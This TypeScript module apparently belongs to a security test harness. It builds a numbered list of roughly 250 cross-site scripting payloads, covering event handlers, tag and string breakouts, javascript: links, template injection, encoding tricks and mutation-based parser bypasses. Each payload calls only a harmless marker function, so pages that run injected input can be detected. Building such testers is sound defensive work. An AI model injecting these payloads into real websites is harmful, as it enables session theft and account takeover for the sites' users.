/**
 * What somebody might type so that a page runs it. Each, if it ran, says its number to `__ran`; each begins with
 * `PL` and its number, so that a page that shows one can be told from a page that does not.
 */

/** A payload written around the call that it hopes to make. */
type Write = (call: string) => string

const HANDLERS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'onbegin',
  'ontoggle',
  'onpointerenter',
  'onwheel',
  'onbeforetoggle',
  'onscrollend',
] as const

const each = <T>(list: readonly T[], write: (one: T) => Write): readonly Write[] => list.map(write)

/** Elements that load, fail or start by themselves. */
const BY_THEMSELVES: readonly Write[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script async>${call}</script >`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script src="data:,${call}"></script>`,
  (call) => `<script>/*<!--*/${call}//--></script>`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<IMG SRC=x ONERROR=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x onerror\n=\n${call}>`,
  (call) => `<img src=x\tonerror=${call}>`,
  (call) => `<img src onerror=${call}//`,
  (call) => `<img src=x onerror=&#119;indow.${call}>`,
  (call) => `<img src=x onerror=window&period;${call}>`,
  (call) => `<img srcset=x onerror=${call}>`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<picture><source srcset=x><img onerror=${call} src=x></picture>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><script xlink:href="data:,${call}"></script></svg>`,
  (call) => `<svg><image href=x onerror=${call}></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><set onbegin=${call} attributeName=x></svg>`,
  (call) => `<svg><animateTransform onbegin=${call} attributeName=transform></svg>`,
  (call) => `<svg><animateMotion onbegin=${call} dur=1s></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${call} xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  (call) => `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${call}"></g></svg>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<math><mi><script>${call}</script></mi></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) =>
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>">`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<video poster=x onloadstart=${call} src=x></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<audio onloadstart=${call} src=x></audio>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<link rel=stylesheet href="data:text/css,x" onload=${call}>`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<style>@import 'x'</style><style onload=${call}>a{}</style>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<button autofocus onfocus=${call}>x</button>`,
  (call) => `<a href=# autofocus onfocus=${call}>x</a>`,
  (call) => `<div tabindex=0 autofocus onfocus=${call}></div>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<marquee loop=1 width=0 onfinish=${call}>x</marquee>`,
  (call) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${call}>x</p>`,
  (call) => `<p style="transition:color 1s" ontransitionend=${call}>x</p>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  (call) => `<custom-element onfocus=${call} autofocus tabindex=1></custom-element>`,
  (call) => `<track default src=x onerror=${call}>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
  (call) => `<base href="javascript:/a/-${call}/"><a href=".">x</a>`,
  (call) => `<frameset onload=${call}></frameset>`,
  (call) => `<form><button formaction="javascript:${call}" autofocus onfocus=${call}>x</button></form>`,
  (call) => `<input type=hidden accesskey=x onclick=${call}>`,
  (call) => `<dialog open onfocus=${call} autofocus tabindex=0>x</dialog>`,
  (call) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${call}>x</div>`,
  (call) => `<img src=x onerror="setTimeout('${call}')">`,
  (call) => `<img src=x onerror="Function('${call}')()">`,
  (call) => `<img src=x onerror="import('data:text/javascript,${call}')">`,
]

/** Out of where a page might have put it. */
const BREAKOUTS: readonly Write[] = [
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" onfocus=${call} autofocus x="`,
  (call) => `' onfocus=${call} autofocus x='`,
  (call) => `x onfocus=${call} autofocus`,
  (call) => `\`><img src=x onerror=${call}>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `--!><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>`,
  (call) => `<!-- x --!><img src=x onerror=${call}>`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `<?x ><img src=x onerror=${call}>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</TEXTAREA\n><svg onload=${call}>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</title><svg onload=${call}>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script><img src=x onerror=${call}>`,
  (call) => `</SCRIPT\t><svg onload=${call}>`,
  (call) => `</noscript><img src=x onerror=${call}>`,
  (call) => `</iframe><img src=x onerror=${call}>`,
  (call) => `</xmp><img src=x onerror=${call}>`,
  (call) => `</template><img src=x onerror=${call}>`,
  (call) => `</select><img src=x onerror=${call}>`,
  (call) => `</option></select><svg onload=${call}>`,
  (call) => `</svg></math><img src=x onerror=${call}>`,
  (call) => `</p></div></main></body><script>${call}</script>`,
]

/** Out of a string of a script, of JSON in a script, or of what a server component sends. */
const IN_SCRIPTS: readonly Write[] = [
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\\';${call};//`,
  (call) => `"+${call}+"`,
  (call) => `'-${call}-'`,
  (call) => `\`+${call}+\``,
  (call) => `"});${call};({"x":"`,
  (call) => `"}</script><script>${call}</script>`,
  (call) => `\\u003c/script\\u003e\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\\x3c/script\\x3e\\x3cscript\\x3e${call}`,
  (call) => `"]);${call};self.__next_f.push([1,"`,
  (call) => `\\n0:["$","script",null,{"children":"${call}"}]`,
  (call) => `0:["$","img",null,{"src":"x","onError":"${call}"}]`,
  (call) => `$1:{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `$F1${call}`,
  (call) => `$L1 "$Sreact.fragment" ${call}`,
  (call) => `__proto__[innerHTML]=<img src=x onerror=${call}>`,
  (call) => `constructor.constructor('${call}')()`,
  (call) => `<!--<script>${call}`,
  (call) => `<script>x<!--<script>${call}</script>`,
]

/** Links that would run when they are followed, or that a page might follow itself. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\nscript:',
  'java\tscript:',
  ' javascript:',
  'javascript:%0a',
  'javascript://x%0a',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'view-source:javascript:',
  'data:text/html,<script>top.opener.',
  'feed:javascript:',
] as const
const LINKS: readonly Write[] = [
  ...each(SCHEMES, (scheme) => (call) => `<a href="${scheme}${call}">x</a>`),
  (call) => `javascript:${call}`,
  (call) => `JAVASCRIPT:${call}//https://example.org/`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `[read this](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<https://example.org/"onmouseover="${call}>`,
  (call) => `https://example.org/"><img src=x onerror=${call}>`,
  (call) => `//example.org/\\"onclick=${call}`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<area href="javascript:${call}" shape=default>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
]

/** For whatever draws a text by a language of its own. */
const TEMPLATES: readonly Write[] = [
  (call) => `{{7*7}}{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${7*7}\${${call}}`,
  (call) => `#{7*7}#{${call}}`,
  (call) => `<%= 7*7 %><%= ${call} %>`,
  (call) => `{%if ${call}%}x{%endif%}`,
  (call) => `{!${call}!}`,
  (call) => `[[\${${call}}]]`,
  (call) => `@(${call})`,
  (call) => `*{${call}}`,
  (call) => `{{#with "x"}}{{lookup . "${call}"}}{{/with}}`,
  (call) => `<div ng-app>{{$eval.constructor('${call}')()}}</div>`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'"></div>`,
  (call) => `<div x-data x-init="${call}"></div>`,
  (call) => `=HYPERLINK("javascript:${call}")`,
  (call) => `<x:include href="data:,${call}"/>`,
]

/** Hidden by how they are written: other alphabets, other encodings, half characters of tags. */
const DISGUISED: readonly Write[] = [
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `%253Cimg src=x onerror=${call}%253E`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x3c;svg onload=${call}&#x3e;`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `‹img src=x onerror=${call}›`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `<img src=x onerror=${call} title="\u00A0">`,
  (call) => `<img\u00A0src=x\u00A0onerror=${call}>`,
  (call) => `<img src=x o\u0000nerror=${call}>`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `\u0000<img src=x onerror=${call}>`,
  (call) => `\u202E<img src=x onerror=${call}>`,
  (call) => `\uFEFF<svg onload=${call}>`,
  (call) => `\u2028${call}\u2028`,
  (call) => `<img src=x onerror=\u2028${call}>`,
  (call) => `\u001B[31m<img src=x onerror=${call}>`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img <img src=x onerror=${call}>`,
  (call) => `<a<img src=x onerror=${call}>`,
  (call) => `<x><svg onload=${call}></x>`,
  (call) => `<img alt="<" src=x onerror=${call} alt=">">`,
]

/** Harmless as it is parsed once, and not when it is written out and parsed again. */
const MUTATING: readonly Write[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<select><style></select><img src=x onerror=${call}></style>`,
  (call) => `<table><td background="javascript:${call}"><img src=x onerror=${call}></table>`,
  (call) => `<a id="x\`><img src=x onerror=${call}>\`">x</a>`,
  (call) => `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
  (call) => `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  (call) => `<xmp><p title="</xmp><svg onload=${call}>"></xmp>`,
  (call) => `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
]

const STYLES: readonly Write[] = [
  (call) => `<p style="background:url(javascript:${call})">x</p>`,
  (call) => `<p style="width:expression(${call})">x</p>`,
  (call) => `<p style="behavior:url(x);-moz-binding:url(data:,${call})">x</p>`,
  (call) => `<style>body{background:url("javascript:${call}")}</style>`,
  (call) => `<style>@import "data:text/css,*{x:expression(${call})}";</style>`,
  (call) => `}</style><svg onload=${call}><style>{`,
]

const ON_SOMETHING: readonly Write[] = each(
  HANDLERS,
  (handler) => (call) => `<b id=x tabindex=0 ${handler}="${call}">x</b>`,
)

const WRITTEN = [
  ...BY_THEMSELVES,
  ...BREAKOUTS,
  ...IN_SCRIPTS,
  ...LINKS,
  ...TEMPLATES,
  ...DISGUISED,
  ...MUTATING,
  ...STYLES,
  ...ON_SOMETHING,
]

export type Payload = { readonly number: number; readonly text: string }

export const SCRIPT_PAYLOADS: readonly Payload[] = WRITTEN.map((write, number) => ({
  number,
  text: `PL${number} ${write(`__ran(${number})`)}`,
}))

export const SHOWN = /PL\d+ /

/** The payloads from that one on, round to the first again, as many as go into a field of that length. */
export const payloadsFitting = (
  room: number,
  from: number,
  fits: (text: string) => boolean = () => true,
): readonly Payload[] => {
  const all = SCRIPT_PAYLOADS.map((_, place) => SCRIPT_PAYLOADS[(from + place) % SCRIPT_PAYLOADS.length])
  let left = room
  return all.flatMap((payload) => {
    if (!payload || payload.text.length + 1 > left || !fits(payload.text)) return []
    left -= payload.text.length + 1
    return [payload]
  })
}
